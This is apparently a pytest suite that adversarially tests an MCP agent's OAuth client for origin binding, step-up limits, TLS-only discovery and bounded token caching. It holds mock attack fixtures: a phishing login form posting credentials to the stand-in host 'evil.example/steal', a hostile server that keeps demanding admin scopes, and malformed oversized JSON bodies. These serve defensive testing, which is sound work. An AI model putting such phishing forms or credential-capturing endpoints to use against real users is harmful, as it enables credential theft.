"""Adversarial review of the agent side: the user's password and the agent's token stay on their origins."""

from __future__ import annotations

import asyncio

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st

from hardened.errors import InvalidRequest
from hardened.mcp.browser import HeadlessBrowser


class PhishingAS:
    """An AS page whose login form posts to another origin; records every request it receives (any host)."""

    def __init__(self, action: str) -> None:
        self.action, self.seen = action, []

    async def __call__(self, scope, receive, send) -> None:
        host = dict(scope["headers"]).get(b"host", b"").decode()
        body = b""
        while True:
            message = await receive()
            body += message.get("body", b"")
            if not message.get("more_body"):
                break
        self.seen.append((scope["method"], host, body))
        page = (f'<form method="post" action="{self.action}"><input name="interaction" value="i">'
                '<input name="username"><input name="password"></form>').encode()
        await send({"type": "http.response.start", "status": 200, "headers": [(b"content-type", b"text/html")]})
        await send({"type": "http.response.body", "body": page})


@pytest.mark.requirement("HP-MCP-17")
def test_headless_browser_never_posts_the_password_to_another_origin() -> None:
    app = PhishingAS("http://evil.example/steal")
    browser = HeadlessBrowser("alice", "s3cret", transport=httpx.ASGITransport(app=app))
    with pytest.raises(InvalidRequest, match="another origin"):
        asyncio.run(browser("http://as.example/authorize?request_uri=x", "http://127.0.0.1:1/cb"))
    assert all(b"s3cret" not in body for _, _, body in app.seen)
    assert [host for _, host, _ in app.seen] == ["as.example"]


@pytest.mark.requirement("HP-MCP-18")
def test_401_challenges_cannot_widen_the_grant_past_the_step_up_bound() -> None:
    """A server answering every request 401 with a new scope must not drive authorization after authorization."""
    import httpx2

    from hardened.clock import FixedClock
    from hardened.errors import InsufficientScope
    from hardened.jose import SigningKey
    from hardened.mcp.agent import AgentCredentials, HardenedAgent, TokenSet
    from hardened.mcp.agent_auth import AgentAuth

    clock = FixedClock()
    creds = AgentCredentials(SigningKey.generate("ES256"), SigningKey.generate("ES256"), "st", "http://127.0.0.1:1/cb")
    agent = HardenedAgent("http://127.0.0.1:9/mcp", creds, None, clock=clock)  # type: ignore[arg-type]
    agent.as_metadata = {"issuer": "http://127.0.0.1:8"}
    agent.tokens = TokenSet("tok", frozenset({"trades:read"}), clock.now() + 3600)
    asked: list[frozenset[str]] = []

    async def authorize(scopes):
        asked.append(frozenset(scopes))
        agent.tokens = TokenSet("tok", frozenset(scopes), clock.now() + 3600)
        return agent.tokens

    agent.authorize = authorize  # type: ignore[method-assign]
    served = 0

    async def hostile(scope, receive, send) -> None:
        nonlocal served
        served += 1
        challenge = f'DPoP error="invalid_token", scope="admin:{served}"'.encode()
        await send({"type": "http.response.start", "status": 401, "headers": [(b"www-authenticate", challenge)]})
        await send({"type": "http.response.body", "body": b""})

    async def main() -> list[object]:
        outcomes: list[object] = []
        async with httpx2.AsyncClient(transport=httpx2.ASGITransport(app=hostile), auth=AgentAuth(agent)) as http:
            for _ in range(5):
                try:
                    outcomes.append((await http.get("http://127.0.0.1:9/mcp")).status_code)
                except InsufficientScope as err:
                    outcomes.append(type(err))
        return outcomes

    outcomes = asyncio.run(main())
    assert len(asked) <= agent.max_step_ups and outcomes == [InsufficientScope] * 5


@pytest.mark.requirement("HP-MCP-21")
@pytest.mark.parametrize("body", [b"not json", b"[1, 2]", b"\xff\xfe", b"[" * 50_000 + b"]" * 50_000])
def test_odd_success_answers_from_the_as_end_in_our_error(body: bytes) -> None:
    from hardened.clock import FixedClock
    from hardened.jose import SigningKey
    from hardened.mcp.agent import AgentCredentials, HardenedAgent

    async def odd_as(scope, receive, send) -> None:
        status = 201 if scope["path"] == "/register" else 200
        await send({"type": "http.response.start", "status": status,
                    "headers": [(b"content-type", b"application/json")]})
        await send({"type": "http.response.body", "body": body})

    creds = AgentCredentials(SigningKey.generate("ES256"), SigningKey.generate("ES256"), "st", "http://127.0.0.1:1/cb")
    http = httpx.AsyncClient(transport=httpx.ASGITransport(app=odd_as))
    issuer = "http://as.example"
    agent = HardenedAgent("http://mcp.example/mcp", creds, None, http=http, clock=FixedClock())  # type: ignore[arg-type]
    agent.as_metadata = {"issuer": issuer, "registration_endpoint": issuer + "/register",
                         "token_endpoint": issuer + "/token"}

    async def main() -> None:
        with pytest.raises(InvalidRequest, match="not a JSON object"):
            await agent.register()
        agent.client_id = "c"
        with pytest.raises(InvalidRequest, match="not a JSON object"):
            await agent._post("token_endpoint", {"grant_type": "refresh_token"}, "refresh")

    asyncio.run(main())


@pytest.mark.requirement("HP-MCP-18")
def test_agent_auth_sends_the_token_and_proofs_to_the_mcp_origin_only() -> None:
    import httpx2

    from hardened.clock import FixedClock
    from hardened.jose import SigningKey
    from hardened.mcp.agent import AgentCredentials, HardenedAgent, TokenSet
    from hardened.mcp.agent_auth import AgentAuth

    clock = FixedClock()
    creds = AgentCredentials(SigningKey.generate("ES256"), SigningKey.generate("ES256"), "st", "http://127.0.0.1:1/cb")
    agent = HardenedAgent("http://127.0.0.1:9/mcp", creds, None, clock=clock)  # type: ignore[arg-type]
    agent.tokens = TokenSet("secret-token", frozenset({"trades:read"}), clock.now() + 3600)
    seen: list[tuple[str, dict[bytes, bytes]]] = []

    async def anywhere(scope, receive, send) -> None:
        headers = dict(scope["headers"])
        seen.append((headers.get(b"host", b"").decode(), headers))
        await send({"type": "http.response.start", "status": 401,
                    "headers": [(b"www-authenticate", b'DPoP error="invalid_token", scope="admin"')]})
        await send({"type": "http.response.body", "body": b""})

    async def main() -> None:
        async with httpx2.AsyncClient(transport=httpx2.ASGITransport(app=anywhere), auth=AgentAuth(agent)) as http:
            assert (await http.get("http://127.0.0.2:9/mcp")).status_code == 401
            assert (await http.get("http://127.0.0.1:10/mcp")).status_code == 401

    asyncio.run(main())
    assert [host for host, _ in seen] == ["127.0.0.2:9", "127.0.0.1:10"]
    assert all(b"authorization" not in h and b"dpop" not in h for _, h in seen)
    assert agent.step_ups == 0


@pytest.mark.requirement("HP-MCP-16")
@pytest.mark.parametrize("issuer", ["http://as.example", "ftp://127.0.0.1:8", "as.example"])
def test_agent_never_talks_to_an_authorization_server_without_tls(issuer: str) -> None:
    import json

    from hardened.clock import FixedClock
    from hardened.jose import SigningKey
    from hardened.mcp.agent import AgentCredentials, HardenedAgent

    hosts: list[str] = []

    async def servers(scope, receive, send) -> None:
        hosts.append(dict(scope["headers"]).get(b"host", b"").decode())
        doc = {"resource": "http://127.0.0.1:9/mcp", "authorization_servers": [issuer]}
        await send({"type": "http.response.start", "status": 200, "headers": [(b"content-type", b"application/json")]})
        await send({"type": "http.response.body", "body": json.dumps(doc).encode()})

    creds = AgentCredentials(SigningKey.generate("ES256"), SigningKey.generate("ES256"), "st", "http://127.0.0.1:1/cb")
    http = httpx.AsyncClient(transport=httpx.ASGITransport(app=servers))
    agent = HardenedAgent("http://127.0.0.1:9/mcp", creds, None, http=http, clock=FixedClock())  # type: ignore[arg-type]
    with pytest.raises(InvalidRequest, match="without TLS"):
        asyncio.run(agent.discover())
    assert hosts == ["127.0.0.1:9"]


@pytest.mark.requirement("HP-MCP-21")
@given(st.one_of(st.none(), st.booleans(), st.text(max_size=5), st.floats(allow_nan=True, allow_infinity=True),
                 st.integers(min_value=-10**20, max_value=10**20)))
def test_exchanged_token_cache_lifetime_is_bounded_whatever_the_as_says(expires_in) -> None:
    """RFC 8693 §2.2.1 expires_in as a hostile AS might send it (Infinity, NaN, huge): reuse stays bounded."""
    from hardened.mcp.exchange import MAX_CACHE_SECONDS, cache_lifetime

    lifetime = cache_lifetime(expires_in)
    assert 0.0 <= lifetime <= MAX_CACHE_SECONDS
    if isinstance(expires_in, int) and not isinstance(expires_in, bool) and 10 <= expires_in <= 310:
        assert lifetime == expires_in - 10
